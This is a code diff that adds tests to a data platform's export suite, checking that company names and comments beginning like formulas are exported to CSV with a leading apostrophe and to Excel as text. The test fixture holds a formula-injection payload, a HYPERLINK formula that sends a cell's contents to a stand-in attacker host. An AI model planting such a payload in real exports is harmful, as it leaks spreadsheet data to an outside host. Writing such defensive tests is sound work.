@@ -1,5 +1,6 @@
 import { randomBytes, randomUUID } from "node:crypto";
 import { exportColumns } from "@openverde/frameworks";
+import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestPlatform, type TestPlatform } from "../../testing/test-platform";
@@ -210,5 +211,72 @@ describe("exports", () => {
     expect((await platform.request("/api/export/not-a-job/state", json(reader.authorization))).status).toBe(
       404,
     );
+  });
+});
+
+describe("exports a spreadsheet cannot run", () => {
+  const hostileName = '=HYPERLINK("http://attacker.example/?"&A1,"Open")';
+  const hostileComment = "@SUM(1)";
+  const commentHeader = "SCOPE_1_GHG_EMISSIONS_IN_T.comment";
+  let hostileCompanyId: string;
+
+  beforeAll(async () => {
+    const created = await platform.request(
+      "/api/companies",
+      json(admin.authorization, {
+        companyName: hostileName,
+        headquarters: "Hamburg",
+        countryCode: "DE",
+        identifiers: {},
+      }),
+    );
+    expect(created.status).toBe(200);
+    hostileCompanyId = ((await created.json()) as { companyId: string }).companyId;
+    const data = structuredClone(sfdr) as {
+      environmental: { greenhouseGasEmissions: { scope1GhgEmissionsInTonnes: { comment?: string } } };
+    };
+    data.environmental.greenhouseGasEmissions.scope1GhgEmissionsInTonnes.comment = hostileComment;
+    const uploaded = await platform.request(
+      "/api/data/sfdr?bypassQa=true",
+      json(admin.authorization, { companyId: hostileCompanyId, reportingPeriod: "2024", data }),
+    );
+    expect(uploaded.status).toBe(200);
+  });
+
+  it("writes a company name and a comment that start a formula as text with a leading apostrophe", async () => {
+    const download = await runExport("/api/data/sfdr/export-jobs?keepValueFieldsOnly=false", {
+      companyIds: [hostileCompanyId],
+      reportingPeriods: ["2024"],
+      fileFormat: "CSV",
+    });
+    const [header, row, ...rest] = parse(await download.text()) as string[][];
+    expect(rest).toEqual([]);
+    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
+    expect(cell("companyName")).toBe(`'${hostileName}`);
+    expect(cell(commentHeader)).toBe(`'${hostileComment}`);
+    // Whatever else the dataset holds: a cell may start like a formula only when it is a number.
+    for (const value of row ?? [])
+      if (/^[=+\-@\t\r]/.test(value)) expect(Number.isFinite(Number(value)), value).toBe(true);
+  });
+
+  it("writes them into a workbook as text cells, never as formulas", async () => {
+    const download = await runExport("/api/data/sfdr/export-jobs?keepValueFieldsOnly=false", {
+      companyIds: [hostileCompanyId],
+      reportingPeriods: ["2024"],
+      fileFormat: "EXCEL",
+    });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await download.arrayBuffer());
+    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+    const headers = sheet.getRow(1).values as unknown[];
+    const cell = (name: string) => sheet.getRow(2).getCell(headers.indexOf(name));
+    for (const [name, text] of [
+      ["companyName", hostileName],
+      [commentHeader, hostileComment],
+    ] as const) {
+      expect(cell(name).type).toBe(ExcelJS.ValueType.String);
+      expect(cell(name).value).toBe(text);
+    }
+    sheet.eachRow((row) => row.eachCell((each) => expect(each.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 });
